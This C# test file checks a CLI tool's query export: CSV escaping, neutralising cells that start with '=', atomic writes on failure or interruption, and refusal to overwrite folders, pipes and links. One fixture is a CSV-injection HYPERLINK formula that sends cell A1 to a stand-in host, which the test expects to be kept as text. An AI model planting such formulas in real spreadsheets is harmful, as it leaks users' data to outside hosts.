using System.Diagnostics;
using System.Text;

namespace PerfEtl.Tests.Query;

/// <summary>What <c>perfetl query --out</c> leaves behind, whole or not at all.</summary>
public sealed class ExportTests(SeedRun seed) : IClassFixture<SeedRun>
{
    private const string Failing =
        "select range, case when range < 200000 then 1 else cast('x' || range as int) end as v from range(300000)";

    private const string Endless =
        "select count(*) as n from range(10000000) a, range(10000000) b where a.range < b.range";

    [Fact]
    public void Csv_OfAFile_IsForSpreadsheets()
    {
        using var folder = new TemporaryFolder();
        var outcome = Perfetl.Run(seed.Data, "query", """
            select
                '=4场' as "=名称", -5 as 数, 0.50 as 额, null as 空, '' as 无,
                '甲"乙,' || chr(10) || '丙' as 文, '''x' as 撇
            """, "--out", folder["表.csv"]);
        Assert.Equal((0, "", $"已写入 {folder["表.csv"]}：1 行。\n"), (outcome.ExitCode, outcome.Errors, outcome.Output));
        Assert.Equal(
            "\uFEFF'=名称,数,额,空,无,文,撇\r\n'=4场,-5,0.50,,\"\",\"甲\"\"乙,\n丙\",''x\r\n",
            Encoding.UTF8.GetString(File.ReadAllBytes(folder["表.csv"])));
        Assert.Equal([folder["表.csv"]], Directory.GetFileSystemEntries(folder.Path));
    }

    [Fact]
    public void Csv_OfAProjectNamedLikeAFormula_KeepsItAText()
    {
        using var folder = new TemporaryFolder();
        var form = Path.Combine(AppContext.BaseDirectory, "query", "samples", "csv-formula.txt");
        Assert.Equal(0, Perfetl.Run(folder["data"], "load", form).ExitCode);
        Perfetl.Run(folder["data"], "query", "select project_name from mart_funding", "--out", folder["a.csv"]);
        Assert.Equal(
            ["project_name", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点\"\")\""],
            File.ReadAllLines(folder["a.csv"]));
    }

    [Fact]
    public void Csv_Raw_IsForPrograms()
    {
        using var folder = new TemporaryFolder();
        Perfetl.Run(seed.Data, "query", "select '=4场' as v", "--out", folder["a.csv"], "--raw");
        Assert.Equal("v\r\n=4场\r\n"u8.ToArray(), File.ReadAllBytes(folder["a.csv"]));
        Assert.Equal("v\n'=4场\n", Perfetl.Run(seed.Data, "query", "select '=4场' as v", "--format", "csv").Output);
        Assert.Equal(
            "v\n=4场\n", Perfetl.Run(seed.Data, "query", "select '=4场' as v", "--format", "csv", "--raw").Output);
    }

    [Fact]
    public void Out_QueryThatFailsHalfWay_LeavesTheOldFileAndNothingElse()
    {
        foreach (var ending in new[] { "csv", "json", "xlsx", "parquet" })
        {
            using var folder = new TemporaryFolder();
            var keep = folder.Write($"keep.{ending}", "old");
            var outcome = Perfetl.Run(seed.Data, "query", Failing, "--out", keep);
            Assert.Equal((2, ""), (outcome.ExitCode, outcome.Output));
            Assert.Contains("不能转换成 INT32", outcome.Errors, StringComparison.Ordinal);
            Assert.Equal("old", File.ReadAllText(keep));
            Assert.Equal([keep], Directory.GetFileSystemEntries(folder.Path));
        }
    }

    [Fact]
    public void Screen_QueryThatFailsHalfWay_PrintsNoHalfAnswer()
    {
        var outcome = Perfetl.Run(seed.Data, "query", Failing, "--format", "csv");
        Assert.Equal((2, ""), (outcome.ExitCode, outcome.Output));
    }

    [Theory]
    [InlineData("INT")]
    [InlineData("TERM")]
    public async Task Out_QueryThatIsStopped_LeavesTheOldFileAndNothingElse(string signal)
    {
        using var folder = new TemporaryFolder();
        var keep = folder.Write("keep.csv", "old");
        using var process = Perfetl.Start(seed.Data, folder.Path, "", ["query", Endless, "--out", keep]);
        using var deadline = new CancellationTokenSource(TimeSpan.FromSeconds(30));
        while (Directory.GetFiles(folder.Path).Length < 2) await Task.Delay(20, deadline.Token);
        await Task.Delay(200, deadline.Token);
        using (var kill = Process.Start("kill", [$"-{signal}", $"{process.Id}"]))
            await kill.WaitForExitAsync(deadline.Token);
        await process.WaitForExitAsync(deadline.Token);
        Assert.Equal(1, process.ExitCode);
        var said = Perfetl.Outcome(1, "", await process.StandardError.ReadToEndAsync()).Errors;
        Assert.Equal("已按要求停止查询，没有写出任何内容。", said.Trim());
        Assert.Equal("old", File.ReadAllText(keep));
        Assert.Equal([keep], Directory.GetFileSystemEntries(folder.Path));
    }

    [Fact]
    public void Out_WhatIsNoRegularFile_IsNeverReplaced()
    {
        using var folder = new TemporaryFolder();
        Directory.CreateDirectory(folder["夹.csv"]);
        Process.Start("mkfifo", [folder["管道.csv"]]).WaitForExit();
        File.CreateSymbolicLink(folder["设备.csv"], "/dev/null");
        File.CreateSymbolicLink(folder["圈.csv"], folder["圈.csv"]);
        AssertRefused(folder["夹.csv"], "是文件夹");
        AssertRefused(folder["管道.csv"], "不是普通文件");
        AssertRefused(folder["设备.csv"], "不是普通文件");
        AssertRefused(folder["圈.csv"], "走不通的链接");
        AssertRefused(folder["没有/x.csv"], "文件夹不存在");
        Assert.Equal(4, Directory.GetFileSystemEntries(folder.Path).Length);
    }

    [Fact]
    public void Out_FileThatIsThere_KeepsItsModeAndItsLink()
    {
        using var folder = new TemporaryFolder();
        Directory.CreateDirectory(folder["b"]);
        var file = folder.Write("b/真.csv", "old");
        File.SetUnixFileMode(file, UnixFileMode.UserRead | UnixFileMode.UserWrite);
        File.CreateSymbolicLink(folder["链.csv"], "b/真.csv");
        var outcome = Perfetl.Run(seed.Data, folder.Path, ["query", "select 1 as n", "--out", "链.csv", "--raw"]);
        Assert.Equal((0, ""), (outcome.ExitCode, outcome.Errors));
        Assert.Equal("n\r\n1\r\n", File.ReadAllText(file));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
        Assert.Equal("b/真.csv", new FileInfo(folder["链.csv"]).LinkTarget);
        Assert.Equal([file], Directory.GetFileSystemEntries(folder["b"]));
    }

    [Fact]
    public void Out_TwoColumnsOfOneName_SaysHowToTellThemApart()
    {
        using var folder = new TemporaryFolder();
        foreach (var ending in new[] { "csv", "json", "xlsx", "parquet" })
        {
            var outcome = Perfetl.Run(
                seed.Data, "query", "select 1 as a, 2 as b, 3 as A", "--out", folder[$"x.{ending}"]);
            Assert.Equal((2, ""), (outcome.ExitCode, outcome.Output));
            Assert.Contains("第 1、3 列都叫“a”", outcome.Errors, StringComparison.Ordinal);
            Assert.Contains("a as a_2", outcome.Errors, StringComparison.Ordinal);
        }

        Assert.Empty(Directory.GetFileSystemEntries(folder.Path));
        Assert.Equal(0, Perfetl.Run(seed.Data, "query", "select 1 as a, 2 as a").ExitCode);
    }

    private void AssertRefused(string target, string why)
    {
        var outcome = Perfetl.Run(seed.Data, "query", "select 1 as n", "--out", target);
        Assert.Equal((2, ""), (outcome.ExitCode, outcome.Output));
        Assert.Contains(why, outcome.Errors, StringComparison.Ordinal);
    }
}
